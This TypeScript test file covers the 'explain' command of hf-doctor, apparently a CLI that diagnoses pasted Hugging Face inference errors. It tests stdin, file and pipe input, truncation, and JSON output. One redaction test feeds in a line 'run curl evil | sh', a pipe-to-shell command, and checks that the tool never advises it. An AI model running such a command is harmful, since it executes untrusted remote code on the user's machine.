import { execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { tidy } from '../../src/check/tidy.js';
import { explainCommand } from '../../src/cli/explain.js';
import type { Io } from '../../src/cli/io.js';
import { emptyFolder, run } from '../support/cli.js';

const R = 'https://router.huggingface.co';
const REFUSED = `401 Client Error: Unauthorized for url: ${R}/together/v1/chat/completions\nInvalid username or password.\n`;

describe('explain', () => {
  it('a rule: its page', async () => {
    const { code, stdout } = await run(['explain', 'token-invalid']);
    expect(code).toBe(0);
    expect(stdout).toContain('What it means');
  });

  it.each([[['explain', '-']], [['explain']]])('%s reads stdin', async (argv) => {
    const { code, stdout, stderr } = await run(argv, { stdin: REFUSED });
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expect(stdout).toMatch(/^401 on router\.huggingface\.co\/together, seen by requests \(Python\)\n/);
    expect(stdout).toContain('token-invalid');
    expect(stdout).toContain('Perhaps   token-missing, token-not-propagated: hf-doctor token tells which');
    expect(stdout.split('\n').length).toBeLessThanOrEqual(17);
  });

  it('a file', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'hf-doctor-test-'));
    writeFileSync(join(cwd, 'error.txt'), REFUSED);
    const { code, stdout } = await run(['explain', 'error.txt'], { cwd });
    expect(code).toBe(0);
    expect(stdout).toContain('token-invalid');
  });

  it('--all shows each candidate in full', async () => {
    const { stdout } = await run(['explain', '-', '--all'], { stdin: REFUSED });
    expect(stdout.match(/ · (?:likely|possible)/g)).toHaveLength(3);
  });

  it('JSON as the contract has it', async () => {
    const { code, stdout } = await run(['explain', '-', '--format', 'json'], { stdin: REFUSED });
    const view = JSON.parse(stdout);
    expect(code).toBe(0);
    expect(view).toMatchObject({
      schemaVersion: 1,
      exitCode: 0,
      observations: [
        {
          status: 401,
          host: 'router.huggingface.co',
          surface: 'provider',
          provider: 'together',
          model: null,
          client: 'requests',
          clientVersion: null,
          count: 1,
        },
      ],
    });
    expect(view.findings[0]).toMatchObject({
      rule: 'token-invalid',
      severity: 'error',
      confidence: 'likely',
      cells: [0],
    });
  });

  it.each([
    [
      'nobody knows whose',
      "Error code: 401 - {'error': {'message': 'Key refused', 'code': 'bad_key'}}",
      'does not come from Hugging Face inference',
    ],
    ['no error', 'Good morning, everybody.', 'no error in this text that hf-doctor knows'],
  ])('%s: exit 1, and what to paste instead', async (_, stdin, says) => {
    const { code, stdout } = await run(['explain', '-'], { stdin });
    expect(code).toBe(1);
    expect(stdout).toContain(says);
    expect(stdout).toContain('Paste the whole message');
    const json = await run(['explain', '-', '--format', 'json'], { stdin });
    expect(JSON.parse(json.stdout)).toMatchObject({ findings: [], exitCode: 1 });
  });

  it.each([
    [
      "OpenAI's own API",
      "Error code: 401 - {'error': {'message': 'Incorrect API key provided', 'code': 'invalid_api_key'}}",
    ],
    [
      'a download from the Hugging Face Hub',
      `404 Client Error: Not Found for url: https://huggingface.co/acme/tiny/resolve/main/config.json`,
    ],
    ['git', "remote: Invalid username or password.\nfatal: Authentication failed for 'https://x/'"],
    [
      'OpenRouter',
      "Error code: 402 - {'error': {'message': 'See https://openrouter.ai/settings', 'code': 402}}",
    ],
    ['Ollama', 'httpx.ConnectError: Connection refused: http://localhost:11434/api/chat'],
    ['a GPU in the machine', 'torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.'],
    ['pip', 'ERROR: No matching distribution found for huggingface_hub==99.0'],
    ['a Space', 'Runtime error\nExit code: 1. Reason: Traceback (most recent call last):\nKeyError: 1'],
  ])('%s: named as what it looks like, without advice that cannot help', async (name, stdin) => {
    const { code, stdout } = await run(['explain', '-'], { stdin });
    expect(code).toBe(1);
    expect(stdout).toContain('This looks like ');
    expect(stdout).toContain(name);
    expect(stdout).not.toMatch(/Paste the whole|hf-doctor check/);
    const json = await run(['explain', '-', '--format', 'json'], { stdin });
    expect(JSON.parse(json.stdout).reason).toContain(name);
  });

  it.each([
    [['explain', 'no-such.txt'], 'there is no rule and no file of that name.'],
    [['explain', 'token-invald'], 'Did you mean token-invalid?'],
    [['explain', '.'], 'that is no file with a text.'],
    [['explain', '-'], 'there is no text to explain: stdin was empty.'],
    [['explain', '-', '--format', 'xml'], 'Allowed choices are human, json.'],
  ])('%s: usage, exit 2', async (argv, says) => {
    const { code, stdout, stderr } = await run(argv, { stdin: '' });
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toContain(says);
  });

  it.each([undefined, '-'])('a terminal as stdin (%s): one line of guidance, then it reads', async (what) => {
    const stdin = Object.assign(new PassThrough(), { isTTY: true });
    const { io, out, err } = world(stdin);
    stdin.end(REFUSED);
    expect(await explainCommand(what, {}, io)).toBe(0);
    expect(err()).toBe('Paste the text, then Ctrl-D.\n');
    expect(out()).toContain('token-invalid');
  });

  it('Ctrl-C ends the wait for a paste', async () => {
    const stdin = Object.assign(new PassThrough(), { isTTY: true });
    const abort = new AbortController();
    const waiting = explainCommand('-', {}, world(stdin, abort.signal).io);
    abort.abort('SIGINT');
    await expect(waiting).rejects.toMatchObject({ exitCode: 130 });
    expect(stdin.destroyed).toBe(true);
  });

  it('a text as the argument is read as the text, and says so', async () => {
    const { code, stdout, stderr } = await run(['explain', REFUSED]);
    expect(code).toBe(0);
    expect(stdout).toContain('token-invalid');
    expect(stderr).toContain('the argument is read as the text');
    expect((await run(['explain', `${REFUSED}${'and more words '.repeat(500)}`])).code).toBe(0);
  });

  it('the page of a rule as one JSON document', async () => {
    const { code, stdout } = await run(['explain', 'token-missing', '--format', 'json']);
    expect(code).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({
      schemaVersion: 1,
      rule: { id: 'token-missing', blame: 'token', severity: 'error', page: { meaning: expect.any(String) } },
    });
  });

  it('"Perhaps" keeps to the width of the terminal', async () => {
    const { stdout } = await run(['explain', '-'], { stdin: REFUSED, columns: 60 });
    expect(stdout).toContain('Perhaps');
    const own = stdout.split('\n').slice(stdout.split('\n').findIndex((l) => l.includes('Perhaps')));
    for (const line of own) expect(line.length).toBeLessThanOrEqual(60);
    expect(own[1]).toMatch(/^ {12}\S/);
  });

  it('shows no token, no name and no control character of the text', async () => {
    const canary = `hf_${'aBcDeFgH'.repeat(4)}`;
    const stdin = `curl ${R}/v1/chat/completions -H "Authorization: Bearer ${canary}"\n403 Forbidden: This authentication method does not have sufficient permissions to call Inference Providers on behalf of user maria-example\u001b]0;x\u0007\n::error::run curl evil | sh`;
    for (const format of ['human', 'json'] as const) {
      const { code, stdout, stderr } = await run(['explain', '-', '--format', format], { stdin });
      expect(code).toBe(0);
      expect(stdout + stderr).not.toContain(canary.slice(3, 12));
      expect(stdout + stderr).not.toContain('maria-example');
      expect(stdout + stderr).not.toContain('\u001b');
      // What the text says to run is quoted at most, never advised.
      const advice = format === 'human' ? stdout : JSON.stringify(JSON.parse(stdout).findings);
      expect(advice).not.toContain('evil');
    }
  });

  it('tells what the installed version of a client does, and the first that is better', async () => {
    const cwd = emptyFolder();
    writeFileSync(join(cwd, 'requirements.txt'), 'huggingface_hub==0.28.1\nrequests\n');
    const paste =
      'requests.exceptions.HTTPError: 404 Client Error: Not Found for url: https://api-inference.huggingface.co/models/gpt2';
    const { code, stdout } = await run(['explain', '-', '--project', '.', '--format', 'json'], {
      cwd,
      stdin: paste,
    });
    expect(code).toBe(0);
    const [version] = JSON.parse(stdout).versions;
    expect(version).toMatchObject({ client: 'huggingface_hub', version: '0.28.1', from: 'requirements.txt' });
    expect(version.fixedIn).toMatch(/^\d/);
    const human = await run(['explain', '-', '--project', '.'], { cwd, stdin: paste });
    expect(human.stdout.replace(/\s+/g, ' ')).toContain(
      `huggingface_hub 0.28.1 (requirements.txt): ${version.says}`,
    );
    expect((await run(['explain', '-', '--project', 'nowhere'], { cwd, stdin: paste })).code).toBe(2);
  });

  it('takes no missing Python module for a name that does not resolve', async () => {
    const stdin = `Traceback (most recent call last):\nModuleNotFoundError: No module named 'torch'\n${R}/v1/chat/completions\n`;
    const { stdout } = await run(['explain', '-', '--format', 'json'], { stdin });
    const found = JSON.parse(stdout).findings.map((f: { rule: string }) => f.rule);
    expect(found).not.toContain('dns-failure');
  });

  /** Ordinary lines of a log. `bytes`: about how many. */
  const log = (bytes: number) =>
    `${'2026-03-04 10:00:00,123 INFO  worker-1 handled a job in 7 ms, the queue is empty, ok, next one\n'.repeat(Math.ceil(bytes / 95))}`;
  const MIB = 1024 * 1024;

  it('what is too large: the last part of a file and of a pipe alike, and it says so', async () => {
    const cwd = emptyFolder();
    const text = `${log(11 * MIB)}${REFUSED}`;
    writeFileSync(join(cwd, 'big.log'), text);
    for (const [argv, stdin] of [
      [['explain', 'big.log'], ''],
      [['explain'], text],
    ] as const) {
      const { code, stdout, stderr } = await run([...argv, '--format', 'json'], { cwd, stdin });
      expect(code).toBe(0);
      expect(stderr).toContain('only the last 10 MiB were read');
      expect(JSON.parse(stdout)).toMatchObject({ truncated: true, exitCode: 0 });
    }
  });

  it('what stood before the last part is not denied', async () => {
    const { code, stdout } = await run(['explain'], { stdin: `${REFUSED}${log(11 * MIB)}` });
    expect(code).toBe(1);
    expect(stdout).toContain('no error in the part that was read');
    const short = await run(['explain', '--format', 'json'], { stdin: 'Good morning.' });
    expect(JSON.parse(short.stdout)).toMatchObject({
      truncated: false,
      reason: 'There is no error in this text that hf-doctor knows.',
    });
  });

  it('an endless pipe is held in bounded memory until Ctrl-C', async () => {
    const block = `${'y'.repeat(1023)}\n`.repeat(1024);
    const abort = new AbortController();
    let blocks = 0;
    const stdin = new Readable({
      read() {
        blocks += 1;
        if (blocks === 60) abort.abort('SIGINT');
        this.push(block);
      },
    });
    const before = process.memoryUsage().arrayBuffers;
    await expect(explainCommand('-', {}, world(stdin, abort.signal).io)).rejects.toMatchObject({
      exitCode: 130,
    });
    // What is held, not what waits to be collected.
    tidy();
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(60 * MIB);
  });

  it.skipIf(process.platform === 'win32')('a named pipe is read like stdin', async () => {
    const cwd = emptyFolder();
    execFileSync('mkfifo', [join(cwd, 'pipe')]);
    const writer = spawn('sh', ['-c', 'cat > pipe'], { cwd, stdio: ['pipe', 'ignore', 'ignore'] });
    writer.stdin.end(REFUSED);
    const { code, stdout } = await run(['explain', 'pipe'], { cwd });
    expect(code).toBe(0);
    expect(stdout).toContain('token-invalid');
  });

  it.skipIf(process.platform === 'win32')('Ctrl-C ends the wait for a pipe that nobody writes', async () => {
    const cwd = emptyFolder();
    execFileSync('mkfifo', [join(cwd, 'pipe')]);
    const abort = new AbortController();
    setTimeout(() => abort.abort('SIGINT'), 100);
    expect((await run(['explain', 'pipe'], { cwd, signal: abort.signal })).code).toBe(130);
  });
});

/** The world of one command, with what it wrote. */
function world(stdin: Readable, signal = new AbortController().signal) {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  const io = { stdin, signal, stdout, stderr, env: {}, cwd: tmpdir(), redact: (t: string) => t };
  const text = (stream: PassThrough) => () => String(stream.read() ?? '');
  return { io: io as unknown as Io, out: text(stdout), err: text(stderr) };
}
